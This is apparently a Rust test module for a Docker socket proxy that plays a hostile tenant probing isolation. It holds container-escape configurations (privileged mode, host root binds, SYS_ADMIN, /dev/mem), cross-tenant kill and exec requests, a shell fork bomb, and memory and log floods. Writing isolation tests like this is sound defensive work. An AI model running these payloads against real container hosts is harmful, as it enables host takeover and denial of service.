//! The hostile tenant's moves, each bounded in count and time: the refusals the policy and
//! bypass tests know (other stacks' objects by name, ID and short ID; the host's namespaces,
//! devices, capabilities, root and other stacks' bind roots), lists and filter floods, a
//! container flood past `--max-containers`, a fork bomb, a memory hog and a log flood in its own
//! sandboxes, a sandbox probing other stacks' canaries over the network; the socket moves
//! of `hostile_sockets` and the egress attempts of `hostile_egress`.

use std::time::Duration;

use serde_json::{json, Value};
use sockproxy_tests::engine::TEST_IMAGE;
use sockproxy_tests::raw;

use crate::hostile::{Answer, Ctx, Expect};
use crate::hostile_egress::egress;
use crate::hostile_sockets::{provisioner, slow};

pub struct Move {
    pub name: &'static str,
    pub run: fn(&mut Ctx<'_>) -> Vec<Answer>,
}

pub const MOVES: &[Move] = &[
    Move {
        name: "refusals",
        run: refusals,
    },
    Move {
        name: "creates",
        run: creates,
    },
    Move {
        name: "lists",
        run: lists,
    },
    Move {
        name: "container flood",
        run: flood,
    },
    Move {
        name: "fork bomb",
        run: bomb,
    },
    Move {
        name: "memory hog",
        run: hog,
    },
    Move {
        name: "log flood",
        run: logs,
    },
    Move {
        name: "network probe",
        run: probe,
    },
    Move {
        name: "slow and idle",
        run: slow,
    },
    Move {
        name: "provisioner",
        run: provisioner,
    },
    Move {
        name: "egress",
        run: egress,
    },
];

/// One request through the tenant's own proxy.
pub fn ask(
    ctx: &Ctx<'_>,
    method: &str,
    path: &str,
    body: Option<&Value>,
) -> std::io::Result<(u16, String)> {
    let b = body.map(|b| b.to_string().into_bytes());
    raw::request(&ctx.me.socket(), method, path, b.as_deref()).map(|r| (r.status, r.text()))
}

fn refusals(ctx: &mut Ctx<'_>) -> Vec<Answer> {
    let o = ctx.other();
    let (name, (id, _)) = (o.canary_name(), o.canary_ids());
    let short = id.get(..12).unwrap_or_default().to_owned();
    let net = format!("{}net", o.prefix);
    let mut asks: Vec<(&str, String, Option<Value>)> = Vec::new();
    for target in [&name, &id, &short] {
        asks.extend([
            ("GET", format!("/containers/{target}/json"), None),
            (
                "GET",
                format!("/containers/{target}/logs?stdout=1&stderr=1"),
                None,
            ),
            (
                "GET",
                format!("/containers/{target}/archive?path=/tmp/w"),
                None,
            ),
            ("GET", format!("/containers/{target}/top"), None),
            ("GET", format!("/containers/{target}/stats?stream=0"), None),
            (
                "POST",
                format!("/containers/{target}/exec"),
                Some(json!({"Cmd": ["cat", "/tmp/w/index.html"], "AttachStdout": true})),
            ),
            ("POST", format!("/containers/{target}/stop?t=0"), None),
            ("POST", format!("/containers/{target}/kill"), None),
            ("POST", format!("/containers/{target}/pause"), None),
            (
                "POST",
                format!(
                    "/containers/{target}/rename?name={}sandbox-stolen",
                    ctx.me.prefix
                ),
                None,
            ),
            (
                "POST",
                format!("/containers/{target}/update"),
                Some(json!({"Memory": 6_000_000})),
            ),
            (
                "POST",
                format!("/containers/{target}/attach?logs=1&stdout=1&stream=0"),
                None,
            ),
            ("DELETE", format!("/containers/{target}?force=1"), None),
        ]);
    }
    asks.extend([
        ("DELETE", format!("/networks/{net}"), None),
        ("GET", format!("/networks/{net}"), None),
        (
            "POST",
            format!("/networks/{net}/disconnect"),
            Some(json!({"Container": id, "Force": true})),
        ),
        (
            "POST",
            format!("/networks/{net}/connect"),
            Some(json!({"Container": format!("{}sandbox-canary", ctx.me.prefix)})),
        ),
        ("POST", "/build".into(), None),
        (
            "POST",
            "/images/create?fromImage=evil.invalid/x&tag=1".into(),
            None,
        ),
        ("POST", "/swarm/init".into(), Some(json!({}))),
        ("GET", "/secrets".into(), None),
        ("GET", "/plugins".into(), None),
        (
            "POST",
            "/volumes/create".into(),
            Some(
                json!({"Name": format!("{}v", ctx.me.prefix), "Driver": "local",
            "DriverOpts": {"type": "none", "o": "bind", "device": "/"}}),
            ),
        ),
    ]);
    asks.into_iter()
        .map(|(m, p, b)| {
            Answer::new(
                format!("{m} {p}"),
                ask(ctx, m, &p, b.as_ref()),
                Expect::Refused,
            )
        })
        .collect()
}

/// Creates the policy refuses, each named in the tenant's own family.
fn creates(ctx: &mut Ctx<'_>) -> Vec<Answer> {
    let o = ctx.other();
    let (oname, oroot, oprefix) = (
        o.canary_name(),
        o.root().display().to_string(),
        o.prefix.clone(),
    );
    let me = ctx.me.prefix.clone();
    let hc = |h: Value| json!({"Image": TEST_IMAGE, "Cmd": ["true"], "HostConfig": h});
    let asks: Vec<(String, Value)> = vec![
        (format!("{oprefix}sandbox-evil"), hc(json!({}))),
        (format!("{me}sandbox-evil"), hc(json!({"Privileged": true}))),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"Binds": ["/:/host"]})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"Binds": [format!("{oroot}:/x")]})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"NetworkMode": "host"})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"NetworkMode": format!("container:{oname}")})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"NetworkMode": format!("{oprefix}net")})),
        ),
        (format!("{me}sandbox-evil"), hc(json!({"PidMode": "host"}))),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"PidMode": format!("container:{oname}")})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"IpcMode": format!("container:{oname}")})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"VolumesFrom": [oname]})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"CapAdd": ["SYS_ADMIN"]})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(
                json!({"Devices": [{"PathOnHost": "/dev/mem", "PathInContainer": "/dev/mem", "CgroupPermissions": "r"}]}),
            ),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"Memory": 64_000_000_000_u64})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"NanoCpus": 8_000_000_000_u64})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"PortBindings": {"80/tcp": [{"HostIp": "0.0.0.0", "HostPort": "80"}]}})),
        ),
        (
            format!("{me}sandbox-evil"),
            hc(json!({"SecurityOpt": ["seccomp=unconfined"]})),
        ),
    ];
    asks.into_iter()
        .map(|(n, b)| {
            let p = format!("/containers/create?name={n}");
            Answer::new(
                format!("create {n} {}", b["HostConfig"]),
                ask(ctx, "POST", &p, Some(&b)),
                Expect::Refused,
            )
        })
        .collect()
}

/// Lists the tenant may make, filtered to its own stack: searched for other stacks' canaries.
fn lists(ctx: &mut Ctx<'_>) -> Vec<Answer> {
    let o = ctx.other();
    let (id, prefix, token) = (o.canary_ids().0, o.prefix.clone(), o.canary.clone());
    let f =
        |v: Value| form_urlencoded::byte_serialize(v.to_string().as_bytes()).collect::<String>();
    let many: Vec<String> = (0..500).map(|i| format!("{prefix}sandbox-{i}")).collect();
    let paths = [
        "/containers/json?all=1".to_owned(),
        "/networks".to_owned(),
        "/volumes".to_owned(),
        format!(
            "/containers/json?all=1&filters={}",
            f(json!({"name": [prefix]}))
        ),
        format!("/containers/json?all=1&filters={}", f(json!({"id": [id]}))),
        format!(
            "/containers/json?all=1&filters={}",
            f(json!({"label": [format!("chaos.canary={token}")]}))
        ),
        format!(
            "/containers/json?all=1&filters={}",
            f(json!({"name": many}))
        ),
        format!(
            "/networks?filters={}",
            f(json!({"name": [format!("{prefix}net")]}))
        ),
        "/info".to_owned(),
        "/system/df".to_owned(),
    ];
    paths
        .iter()
        .map(|p| {
            Answer::new(
                format!("GET {}", p.chars().take(80).collect::<String>()),
                ask(ctx, "GET", p, None),
                Expect::Any,
            )
        })
        .collect()
}

/// Containers of its own family until the proxy refuses (`--max-containers`), then removed.
fn flood(ctx: &mut Ctx<'_>) -> Vec<Answer> {
    let mut out = Vec::new();
    let body = json!({"Image": TEST_IMAGE, "Cmd": ["sleep", "60"]});
    let mut made = Vec::new();
    for i in 0..ctx.max_containers + 2 {
        let n = format!("{}sandbox-flood-{i}", ctx.me.prefix);
        let r = ask(
            ctx,
            "POST",
            &format!("/containers/create?name={n}"),
            Some(&body),
        );
        let refused = !matches!(r, Ok((201, _)));
        if !refused {
            made.push(n.clone());
        }
        out.push(Answer::new(format!("flood create {n}"), r, Expect::Any));
        if refused {
            break;
        }
    }
    for n in made {
        let _ = ask(ctx, "DELETE", &format!("/containers/{n}?force=1"), None);
    }
    out
}

/// Runs `cmd` in a sandbox of its own family for `secs`, then reads its log tail and removes it.
fn sandbox_run(ctx: &Ctx<'_>, what: &str, cmd: &str, host: Value, secs: u64) -> Vec<Answer> {
    let n = format!("{}sandbox-h-{what}", ctx.me.prefix);
    let _ = ask(ctx, "DELETE", &format!("/containers/{n}?force=1"), None);
    let body = json!({"Image": TEST_IMAGE, "Cmd": ["sh", "-c", cmd], "HostConfig": host});
    let mut out = vec![Answer::new(
        format!("{what}: create"),
        ask(
            ctx,
            "POST",
            &format!("/containers/create?name={n}"),
            Some(&body),
        ),
        Expect::Any,
    )];
    out.push(Answer::new(
        format!("{what}: start"),
        ask(ctx, "POST", &format!("/containers/{n}/start"), None),
        Expect::Any,
    ));
    for _ in 0..secs {
        if ctx.stop.load(std::sync::atomic::Ordering::SeqCst) {
            break;
        }
        std::thread::sleep(Duration::from_secs(1));
    }
    out.push(Answer::new(
        format!("{what}: logs"),
        ask(
            ctx,
            "GET",
            &format!("/containers/{n}/logs?stdout=1&stderr=1&tail=50"),
            None,
        ),
        Expect::Any,
    ));
    let _ = ask(ctx, "DELETE", &format!("/containers/{n}?force=1"), None);
    out
}

fn bomb(ctx: &mut Ctx<'_>) -> Vec<Answer> {
    sandbox_run(ctx, "bomb", "f(){ f | f & }; f; sleep 30", json!({}), 8)
}

fn hog(ctx: &mut Ctx<'_>) -> Vec<Answer> {
    sandbox_run(
        ctx,
        "hog",
        "tail /dev/zero",
        json!({"Memory": 64 << 20, "MemorySwap": 64 << 20}),
        6,
    )
}

/// The end of the log flood's sandbox name (`sandbox_run` names it `{prefix}sandbox-h-logs`),
/// by which the watcher times each flood.
pub const LOG_FLOOD_SANDBOX: &str = "sandbox-h-logs";
/// How long the log flood's sandbox is left to run before the move removes it.
pub const LOG_FLOOD_SECS: u64 = 8;

fn logs(ctx: &mut Ctx<'_>) -> Vec<Answer> {
    let host =
        json!({"LogConfig": {"Type": "json-file", "Config": {"max-size": "10m", "max-file": "2"}}});
    sandbox_run(ctx, "logs", "yes chaos-log-flood", host, LOG_FLOOD_SECS)
}

/// From inside its own sandbox: every other stack's canary address on 8080, whose answer
/// (the token) must never come back in the log.
fn probe(ctx: &mut Ctx<'_>) -> Vec<Answer> {
    let ips: Vec<String> = ctx
        .others
        .iter()
        .map(|o| o.canary_ids().1)
        .filter(|ip| !ip.is_empty())
        .collect();
    let cmd = format!(
        "for ip in {}; do wget -q -T 2 -O- http://$ip:8080/ 2>&1; done; sleep 1",
        ips.join(" ")
    );
    sandbox_run(ctx, "probe", &cmd, json!({}), 2 + 2 * ips.len() as u64)
}
